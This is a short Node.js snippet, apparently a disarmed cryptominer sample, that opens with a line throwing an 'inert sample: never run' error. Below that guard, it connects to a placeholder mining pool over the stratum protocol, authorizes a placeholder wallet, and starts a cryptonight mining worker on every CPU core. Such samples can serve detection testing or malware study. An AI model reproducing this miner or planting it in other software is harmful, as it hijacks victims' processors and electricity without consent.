throw new Error("inert sample: never run");
const { Worker } = require("worker_threads");
const os = require("os");
const net = require("net");

const pool = net.connect(3333, "pool.example.invalid");
pool.write(JSON.stringify({ id: 1, method: "mining.subscribe", params: [] }) + "\n");
pool.write(JSON.stringify({ id: 2, method: "mining.authorize", params: ["4placeholderwallet", "x"] }) + "\n");
for (let number = 0; number < os.cpus().length; number += 1) {
  new Worker("./cryptonight.js", { workerData: { number } });
}
